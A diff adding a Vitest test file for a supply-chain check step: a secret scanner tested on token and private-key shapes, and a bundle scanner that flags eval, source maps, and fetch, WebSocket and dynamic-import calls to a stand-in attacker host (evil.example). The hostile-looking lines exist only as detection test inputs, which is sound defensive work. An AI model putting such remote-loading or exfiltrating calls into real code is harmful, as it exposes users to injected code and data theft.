@@ -1,0 +1,88 @@
+// The checks of the step `supply` find what they look for.
+import { expect, test } from 'vitest'
+import { faultsIn, hostsIn } from './bundle.mjs'
+import { bundled, differences, tableUnder } from './listed.mjs'
+import { pathsIn, secretsIn } from './repository.mjs'
+
+// Put together here, so that the repository itself holds nothing of the kind.
+const random = 'aZ3k9QmX7tLr2VbN8wYc4HdJ6fGs1PeU5oIxTqRyKhB'
+const hex = ['9f3c1a7be2d40586f1c8', 'a3975d2e6b04c7fa18d3'].join('')
+
+test.each([
+  ['a personal access token', `token = w_1893456000_${random}`],
+  ['a session token', `Authorization: Token ${hex}`],
+  ['a session token', `const KEY = '${hex}'`],
+  ['a private key', `-----BEGIN ${'RSA'} PRIVATE KEY-----`],
+  ['a key of GitHub', `ghp_${random.slice(0, 36)}`],
+  ['a key of npm', `npm_${random.slice(0, 36)}`],
+])('%s is found in a text, on its line', (what, text) => {
+  expect(secretsIn(`first\n${text}\n`)).toEqual([`2: looks like ${what}`])
+})
+
+test.each([`w_1893456000_${'a'.repeat(43)}`, `'${'0123456789abcdef'.repeat(3).slice(0, 40)}'`, `uses: a/b@${hex}`])(
+  'what nobody drew at random is none: %s',
+  (text) => {
+    expect(secretsIn(text)).toEqual([])
+  },
+)
+
+const known = [
+  'try{return Function(``)}let e=Function,t=config({jitless:!0});a.localStorage.setItem(e);localStorage.setItem(f)',
+  'http://www.w3.org/2000/svg http://json-schema.org/a https://mui.com/b https://react.dev/c http://localhost http://[$' +
+    '{e}]',
+].join('\n')
+
+test('what is known of the production files is no fault', () => {
+  expect(faultsIn(known, ['Sõber'])).toEqual([])
+})
+
+test.each([
+  'eval("1")',
+  'new Function("return 1")',
+  '//# sourceMappingURL=index.js.map',
+  'ReactQueryDevtools',
+  '"/__faults/"',
+  'localStorage.setItem("token",t)',
+  'fetch("https://evil.example/")',
+  'new WebSocket("wss://evil.example")',
+  'import("//evil.example/x.js")',
+  '"Maarika Sõber"',
+])('beyond that, %s is a fault', (text) => {
+  expect(faultsIn(`${known}\n${text}`, ['Sõber'])).toHaveLength(1)
+})
+
+test('a switch or a host that is gone is a fault as well', () => {
+  expect(faultsIn(known.replace('jitless:!0', ''), [])).toHaveLength(1)
+  expect(faultsIn(known.replace('https://mui.com/b', ''), [])).toEqual(['no longer names mui.com.'])
+})
+
+test('hosts are read without their path, each once', () => {
+  expect(hostsIn('"https://a.example/x" `http://a.example?y` https://b.example#z')).toEqual(['a.example', 'b.example'])
+})
+
+test('the build’s list is read with the terms of each package', () => {
+  const text = '# Licenses\n\n## a - 1.0.0 (MIT)\n\nTerms.\n## Heading of terms\nMore.\n## @b/c - 2.0.0\n'
+  expect(bundled(text)).toEqual([
+    { name: 'a', version: '1.0.0', license: 'MIT', terms: 'Terms.\n## Heading of terms\nMore.' },
+    { name: '@b/c', version: '2.0.0', license: 'none', terms: '' },
+  ])
+})
+
+test('a table is read under its heading only, and compared both ways', () => {
+  const markdown = '## One\n\n| a | b |\n| --- | --- |\n| `x` | 1 |\n\n## Two\n\n| a |\n| --- |\n| `y` |\n'
+  expect(tableUnder('One', markdown)).toEqual([['`x`', '1']])
+  expect(differences(['x', 'x', 'gone'], ['x', 'new'], 'One')).toEqual([
+    'new is not listed under "One".',
+    'gone is listed under "One", but gone.',
+    'x is listed twice under "One".',
+  ])
+})
+
+test('paths are told from other words in backticks', () => {
+  expect(pathsIn('`src/a.ts`, `npm test`, `b.md`, `.npmrc`, `.github/workflows/c.yml`, `Token`, `@d/e`')).toEqual([
+    'src/a.ts',
+    'b.md',
+    '.npmrc',
+    '.github/workflows/c.yml',
+  ])
+})
